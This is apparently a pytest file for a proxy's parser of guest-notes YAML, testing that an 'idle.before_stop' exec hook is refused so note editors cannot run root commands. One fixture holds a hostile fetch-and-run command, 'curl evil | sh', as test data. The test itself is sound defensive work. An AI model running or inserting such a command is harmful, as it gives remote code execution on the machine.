"""`idle.before_stop` is refused in guests' notes: whoever may edit the notes must not get to
run commands as root in the guest."""

from __future__ import annotations

import pytest

from pxproxy.routing.notes import NotesError, parse_notes

REF = "lab:7141"


def notes(body: str) -> str:
    return f"Minecraft\n\n```yaml\n{body}\n```\n"


def error(description: str) -> str:
    with pytest.raises(NotesError) as caught:
        parse_notes(description, REF)
    return caught.value.message


def test_before_stop_is_refused_with_its_key_path() -> None:
    message = error(
        notes(
            "pxproxy:\n"
            "  listen: 0.0.0.0:25565\n"
            "  port: 25565\n"
            "  idle: {timeout: 30m, before_stop: {exec: [rcon-cli, say, bye], grace: 60s}}"
        )
    )
    assert message.startswith("pxproxy.idle.before_stop: not allowed in notes")
    assert "run any command as root in the guest" in message
    assert "pxproxy's config" in message


def test_in_a_routes_list_too_and_the_other_routes_are_not_served() -> None:
    message = error(
        notes(
            "pxproxy:\n"
            "  routes:\n"
            "    - {host: map.example.com, port: 8100}\n"
            "    - host: mc.example.com\n"
            "      port: 8080\n"
            "      idle:\n"
            "        before_stop: {exec: [sh, -c, 'curl evil | sh']}\n"
        )
    )
    assert message.startswith("pxproxy.routes[1].idle.before_stop: not allowed in notes")


def test_idle_without_before_stop_is_still_fine() -> None:
    (route,) = parse_notes(notes("pxproxy: {host: mc.example.com, port: 8080, idle: {}}"), REF)
    assert route.idle is not None
    assert route.idle.before_stop is None
